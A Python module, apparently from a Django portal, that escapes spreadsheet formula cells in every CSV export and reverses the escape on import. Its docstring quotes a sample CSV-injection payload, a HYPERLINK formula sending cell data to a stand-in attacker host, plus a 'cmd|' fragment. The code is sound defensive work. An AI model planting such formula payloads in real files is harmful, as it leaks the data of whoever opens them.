"""Cells a spreadsheet will not run: the one rule for every CSV the portal writes.

A spreadsheet treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula, and OWASP adds a leading tab or carriage return (which some
spreadsheets skip before reading the rest), so a use case titled ``=HYPERLINK("http://evil.example/?x="&A1)``
would run on the Board's laptop when they open an export. As OWASP advises
(https://owasp.org/www-community/attacks/CSV_Injection), such a cell is
written with a single quote first: the spreadsheet shows the text, runs
nothing.

Only text is escaped. An ``int``, ``float`` or ``Decimal`` is left as it is
(``-3`` stays a number the spreadsheet can sum; a number is never a formula);
a text that merely looks like a negative number (``"-3"``) is quoted like any
other text, since nothing tells it apart from ``"-3+cmd|..."`` without
parsing. Dates, booleans and codes never start with these characters, so the
typed columns of the open data keep validating against their schema.

Every CSV goes through here: the API's ``?format=csv`` and the open-data ZIP
build their rows with ``writer``; the admin's django-import-export exports
pass each cell through ``safe_cell`` (``corridor.resources``), and an
import takes the quote off again with ``unquote_cell``, so an exported file
edited and imported back changes nothing. A test fails when ``csv.writer``
appears anywhere else.
"""

import csv
from collections.abc import Iterable

DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


def unquote_cell(value):
    """The text ``safe_cell`` quoted, back as it was (for a CSV coming back in)."""
    if isinstance(value, str) and value[:1] == "'" and value[1:].startswith(DANGEROUS_STARTS):
        return value[1:]
    return value


def safe_cell(value):
    """``value``, with a ``'`` in front if it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(DANGEROUS_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose every cell has passed through ``safe_cell``."""

    def __init__(self, file, **kwargs):
        self._writer = csv.writer(file, **kwargs)

    def writerow(self, row: Iterable):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file, **kwargs) -> SafeWriter:
    """Like ``csv.writer(file, **kwargs)``, with formulas neutralised."""
    return SafeWriter(file, **kwargs)
